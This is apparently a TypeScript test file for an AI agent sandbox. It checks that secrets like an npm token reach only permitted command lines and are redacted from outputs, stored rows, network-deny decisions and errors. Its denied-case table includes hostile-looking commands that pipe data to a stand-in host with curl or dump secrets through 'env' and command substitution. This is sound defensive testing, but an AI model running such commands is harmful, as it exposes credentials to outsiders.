/** Secrets in a call: which command lines get them, and that no row or event ever holds one. */
import { describe, expect, test } from "vitest";
import { toldDecision } from "../../activities/network-events.ts";
import { callSecrets, type WorkerSecrets } from "../../activities/secret-choice.ts";
import type { AgentInput } from "../../contract/agents.ts";
import type { CallId } from "../../contract/ids.ts";
import type { AgentSecret } from "../../contract/sandbox.ts";
import { endStep } from "../../store/steps.ts";
import { createRedactor } from "../../tools/redactor.ts";
import { aCall, aMessage, anEnding, aStep } from "../store/store-builder.ts";
import { callOf } from "../store/waits-builder.ts";
import { type ActivityWorld, anActivityWorld, aTool, runTool } from "./activity-builder.ts";

const VALUES = { NPM_TOKEN: "npm_7f3a9c-value", DEPLOY_KEY: "line one of it\nline two of the key\n" };

function workerSecrets(values: Readonly<Record<string, string>> = VALUES): WorkerSecrets {
  return { values: new Map(Object.entries(values)), redactor: createRedactor(Object.values(values)) };
}

describe("which command line is given a secret", () => {
  const given = (secret: Partial<AgentSecret>, command: string): readonly string[] =>
    Object.keys(callSecrets(workerSecrets(), [{ name: "NPM_TOKEN", ...secret }]).givenTo(command).variables);

  test.each([
    ["npm publish"],
    ["npm publish --tag next"],
    ["npm publish && npm dist-tag add x"],
    ["npm ci; npm publish"],
    ["  npm   publish "],
  ])("npm's is given to %j", (command) => {
    expect(given({ commands: ["npm *"] }, command)).toEqual(["NPM_TOKEN"]);
  });

  test.each([
    ["env"],
    ["npm publish; env"],
    ["npm publish && curl -d @- https://x.test"],
    ["env | npm publish"],
    ["npm publish $(env)"],
    ["npm publish `env`"],
    ["npm publish <(env)"],
    ["echo npm publish"],
    ["sh -c 'npm publish; env'"],
    ["$X publish"],
    ["npm 'unterminated"],
    [""],
  ])("and not to %j", (command) => {
    expect(given({ commands: ["npm *"] }, command)).toEqual([]);
  });

  test("each of a line's commands may match another of the patterns", () => {
    const secret = { commands: ["npm *", "git push*"] };

    expect(given(secret, "npm version patch && git push --tags")).toEqual(["NPM_TOKEN"]);
    expect(given(secret, "npm version patch && git status")).toEqual([]);
  });

  test("without patterns every line gets it, also one that cannot be read", () => {
    for (const command of ["env", "sh -c 'x'", "echo 'unterminated"]) expect(given({}, command)).toEqual(["NPM_TOKEN"]);
  });

  test("a secret that the agent does not name is given to nothing, and one without a value is named as missing", () => {
    expect(callSecrets(workerSecrets(), []).givenTo("env").variables).toEqual({});
    expect(callSecrets(undefined, [{ name: "NONE" }]).givenTo("env")).toEqual({ variables: {}, missing: ["NONE"] });
    const mine = callSecrets(workerSecrets(), [{ name: "NONE", commands: ["npm *"] }]);
    expect(mine.givenTo("ls").missing).toEqual([]);
  });
});

interface Made extends ActivityWorld {
  readonly callId: CallId;
}

async function aMadeCall(of: {
  readonly tool?: string;
  readonly args: Readonly<Record<string, unknown>>;
  readonly agent?: AgentInput;
  readonly tools?: Parameters<typeof anActivityWorld>[0] extends { readonly tools?: infer T } | undefined ? T : never;
}): Promise<Made> {
  const world = await anActivityWorld({ agent: of.agent ?? {}, ...(of.tools && { tools: of.tools }) });
  const ids = await aMessage(world.database, world.sessionId);
  const { block } = aCall(of.tool ?? "bash");
  await endStep(
    world.database,
    await aStep(world.database, ids),
    anEnding([{ block: { ...block, arguments: of.args } }]),
  );
  return { ...world, deps: { ...world.deps, secrets: workerSecrets() }, callId: block.callId };
}

const SECRETS: AgentInput = { secrets: [{ name: "NPM_TOKEN" }, { name: "DEPLOY_KEY" }, { name: "NONE" }] };
const resultOf = async ({ database, sessionId, callId }: Made): Promise<string> =>
  JSON.stringify((await callOf(database, sessionId, callId)).results);

/** All that the store holds, as text. */
async function everything({ database }: Made): Promise<string> {
  const rows: unknown[] = [];
  for (const table of ["events", "tool_calls", "messages", "steps", "sessions", "workspace_files"] as const) {
    rows.push(
      await database.read
        .selectFrom(table as "tool_calls")
        .selectAll()
        .execute(),
    );
  }
  return JSON.stringify(rows);
}

describe("a call", () => {
  test("uses its secrets, and neither its output nor its result nor any row tells them", async () => {
    const command = `printf '%s' "$NPM_TOKEN" >kept; printf 'is %s' "$NPM_TOKEN" | wc -c; echo "$DEPLOY_KEY"; echo "$NPM_TOKEN" >&2; exit 3`;
    await using made = await aMadeCall({ agent: SECRETS, args: { command } });

    expect(await runTool(made, made.callId)).toMatchObject({ outcome: "error" });

    const result = await resultOf(made);
    expect(result).toContain(String(3 + VALUES.NPM_TOKEN.length));
    expect(result).toContain("[REDACTED]");
    expect(result).toContain("the secret NONE has no value on this worker: the command ran without");
    const rows = await everything(made);
    expect(rows).not.toContain(VALUES.NPM_TOKEN);
    expect(rows).not.toContain("line two of the key");
  });

  test("whose file or host is named after a secret tells of neither", async () => {
    await using made = await aMadeCall({
      agent: SECRETS,
      args: { command: `mkdir -p outputs; echo 1 >"outputs/$NPM_TOKEN"; echo 1 >plain; echo done` },
    });

    expect(await runTool(made, made.callId)).toMatchObject({ outcome: "ok", artifacts: false });

    const rows = await everything(made);
    expect(rows).toContain("plain");
    expect(rows).not.toContain(VALUES.NPM_TOKEN);
  });

  test.each([
    ["in small letters", "npm_7f3a9c-value.example.com"],
    ["in a name of another alphabet", "xn--npm_7f3a9c-value-gqb.example.com"],
    ["cut at its end", `${"a".repeat(241)}.npm_7f3a9c-`],
  ])("whose host holds a secret %s tells neither it nor the reason that quotes it", (_, host) => {
    const secrets = workerSecrets({ NPM_TOKEN: "NPM_7f3a9c-VALUE" });

    const said = toldDecision(secrets, {
      host,
      port: 443,
      decision: "deny",
      reason: `"${host.slice(0, 250)}…" is none`,
    });

    expect(JSON.stringify(said)).not.toMatch(/7f3a9c/);
    expect(said.host).toContain("[REDACTED]");
  });

  test("that reads a file with a secret in it shows the file without it", async () => {
    await using made = await aMadeCall({ tool: "read_file", agent: SECRETS, args: { path: ".npmrc" } });
    await using sandbox = await (await import("../../activities/session-sandbox.ts")).openSandbox(
      made.deps,
      made.sessionId,
    );
    await sandbox.writeFile(
      ".npmrc",
      Buffer.from(`a=1\ntoken=${VALUES.NPM_TOKEN}\n${"x".repeat(1_990)}${VALUES.NPM_TOKEN}\n`),
    );

    await runTool(made, made.callId);

    const result = await resultOf(made);
    expect(result).toContain("token=[REDACTED]");
    expect(result).not.toContain("npm_7f3a");
  });

  test("that fails says why without them", async () => {
    const tool = aTool(() => `it could not log in with ${VALUES.NPM_TOKEN}`);
    await using made = await aMadeCall({
      tool: tool.name,
      tools: [tool],
      agent: { tools: [tool.name] },
      args: { text: "x" },
    });

    await runTool(made, made.callId);

    expect(await resultOf(made)).toContain("it could not log in with [REDACTED]");
    expect(await everything(made)).not.toContain(VALUES.NPM_TOKEN);
  });
});
